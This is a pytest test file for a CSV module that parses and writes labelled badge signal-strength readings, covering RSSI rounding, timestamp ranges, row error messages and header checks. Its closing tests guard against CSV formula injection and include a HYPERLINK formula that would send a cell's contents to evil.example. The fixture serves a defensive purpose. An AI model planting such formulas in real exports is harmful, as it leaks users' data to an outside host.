"""The labelled-readings CSV, parsed and written without a database."""

import csv
import datetime
import io

import pytest

from stethoscope.labels.csvio import (
    CsvFormatError,
    LabelledRow,
    RowError,
    data_row,
    escape_cell,
    format_timestamp,
    header_row,
    parse_rssi,
    parse_timestamp,
    read_rows,
    round_rssi,
    unescape_cell,
)

UTC = datetime.UTC
HEADER = "timestamp,badge_id,room,a,b\n"


def rows(text: str) -> list:
    return list(read_rows(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [(-80.5, -81), (-80.4, -80), (-80.6, -81), (0.5, 1), (-0.5, -1), (-79.0, -79)],
)
def test_rssi_rounds_half_away_from_zero(value, expected):
    assert round_rssi(value) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [("", None), ("-128", None), ("-127.6", None), ("-60", -60)],
)
def test_not_heard_is_never_a_value(text, expected):
    # -127.6 rounds to -128: "not heard", not a reading of -128 dBm.
    assert parse_rssi(text) == expected


@pytest.mark.parametrize("text", ["-128.5", "21", "nan", "inf", "loud", "-6O"])
def test_bad_rssi(text):
    with pytest.raises(ValueError):
        parse_rssi(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2016-03-01T08:00:47Z", datetime.datetime(2016, 3, 1, 8, 0, 47, tzinfo=UTC)),
        ("2016-03-01T08:00:47", datetime.datetime(2016, 3, 1, 8, 0, 47, tzinfo=UTC)),
        (
            "2016-03-01T09:00:47.25+01:00",
            datetime.datetime(2016, 3, 1, 8, 0, 47, 250000, tzinfo=UTC),
        ),
        ("1456819247", datetime.datetime(2016, 3, 1, 8, 0, 47, tzinfo=UTC)),
        (
            "1456819247.123456",
            datetime.datetime(2016, 3, 1, 8, 0, 47, 123456, tzinfo=UTC),
        ),
        ("-1.5", datetime.datetime(1969, 12, 31, 23, 59, 58, 500000, tzinfo=UTC)),
        ("2016-03-01", datetime.datetime(2016, 3, 1, tzinfo=UTC)),
    ],
)
def test_timestamps(text, expected):
    assert parse_timestamp(text) == expected


@pytest.mark.parametrize("text", ["yesterday", "", "2016-13-01T00:00:00", "1e400"])
def test_bad_timestamps(text):
    with pytest.raises((ValueError, OverflowError)):
        parse_timestamp(text)


def test_a_good_file():
    assert rows(
        HEADER + "2016-03-01T08:00:47Z,b1,kitchen,-93.0,\n\n1456819248, b1 ,,,-128\n"
    ) == [
        LabelledRow(
            2,
            datetime.datetime(2016, 3, 1, 8, 0, 47, tzinfo=UTC),
            "b1",
            "kitchen",
            {"a": -93},
        ),
        # No beacon heard is still a reading; blank lines are skipped but
        # counted in line numbers.
        LabelledRow(
            4, datetime.datetime(2016, 3, 1, 8, 0, 48, tzinfo=UTC), "b1", None, {}
        ),
    ]


def test_bad_rows_name_their_line_and_field():
    assert [
        str(error)
        for error in rows(
            HEADER + "soon,b1,kitchen,-90,\n"
            "2016-03-01T08:00:47Z,b 1,kitchen,-90,\n"
            "2016-03-01T08:00:47Z,b1,kitchen,-90,loud\n"
            "2016-03-01T08:00:47Z,b1,kitchen,-90\n"
            "2016-03-01T08:00:47Z,b1,kitchen,-90,,\n"
            "2016-03-01T08:00:47Z,,kitchen,-90,\n"
            "2016-03-01T08:00:47Z,b1,kitchen,-200,\n"
        )
    ] == [
        "line 2: timestamp: 'soon' is neither ISO-8601 nor epoch seconds",
        "line 3: badge_id: 'b 1' is not 1-64 printable ASCII characters without spaces",
        "line 4: b: 'loud' is not dBm",
        "line 5: row: 4 columns, the header has 5",
        "line 6: row: 6 columns, the header has 5",
        "line 7: badge_id: '' is not 1-64 printable ASCII characters without spaces",
        "line 8: a: RSSI -200 is outside -128..20 dBm",
    ]


def test_a_quoted_newline_counts_its_lines():
    parsed = rows(HEADER + '2016-03-01T08:00:47Z,b1,"kit\nchen",,\n1,b1,,x,\n')
    assert parsed[0].room == "kit\nchen"
    assert parsed[1] == RowError(4, "a", "'x' is not dBm")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("time,badge,room,a\n", "must begin with timestamp,badge_id,room"),
        ("timestamp,badge_id,room,a,a\n", "beacon a appears twice"),
        ("timestamp,badge_id,room,a b\n", "column 4: beacon id 'a b'"),
    ],
)
def test_bad_headers(text, message):
    with pytest.raises(CsvFormatError, match=message):
        rows(text)


def test_writing_then_reading_gives_the_same_row():
    moment = datetime.datetime(2016, 3, 1, 8, 0, 47, 500, tzinfo=UTC)
    out = io.StringIO()
    out.write(",".join(header_row(["a", "b,c"]).__iter__()) + "\n")
    assert format_timestamp(moment) == "2016-03-01T08:00:47.000500Z"
    assert data_row(moment, "b1", None, {"b,c": -70}, ["a", "b,c"]) == [
        "2016-03-01T08:00:47.000500Z",
        "b1",
        "",
        "",
        "-70",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "9999-12-31T23:59:59Z",  # its run's end (+ 1 s) overflowed the import
        "3000-01-01T00:00:00Z",
        "1969-12-31T23:59:59Z",
        "-1",
        "99999999999",  # epoch seconds: the year 5138
    ],
)
def test_timestamps_outside_1970_to_2999_are_row_errors(text):
    assert rows(HEADER + f"{text},b1,,-60,\n") == [
        RowError(2, "timestamp", f"{text!r} is outside the years 1970-2999")
    ]


@pytest.mark.parametrize(
    "text", ["1970-01-01T00:00:00Z", "2999-12-31T23:59:59.999999Z"]
)
def test_the_first_and_last_times_taken(text):
    assert rows(HEADER + f"{text},b1,,-60,\n")[0].observed_at == parse_timestamp(text)


# What a spreadsheet would run as a formula (OWASP, "CSV injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(9)"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        *((formula, "'" + formula) for formula in FORMULAS),
        ("\t=1", "'\t=1"),
        # Quotes already there get one more, so reading back is exact.
        ("'=1", "''=1"),
        ("''-1", "'''-1"),
        ("'plain", "'plain"),
        ("a=b", "a=b"),
        ("'", "'"),
        ("", ""),
    ],
)
def test_formula_cells_are_written_with_a_quote(text, written):
    assert escape_cell(text) == written
    assert unescape_cell(written) == text


def test_formula_ids_are_written_as_text_and_read_back():
    ids = [*FORMULAS, "'=1", "'plain"]
    moment = datetime.datetime(2016, 3, 1, 8, 0, 47, tzinfo=UTC)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header_row(ids))
    for badge in ids:
        writer.writerow(data_row(moment, badge, "=1+1", {ids[0]: -70}, ids))
    text = out.getvalue()
    # No cell a spreadsheet would run; the RSSI (a number) as it was.
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    formulas = [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert formulas == ["-70"] * len(ids)
    assert rows(text) == [
        LabelledRow(line, moment, badge, "=1+1", {ids[0]: -70})
        for line, badge in enumerate(ids, start=2)
    ]
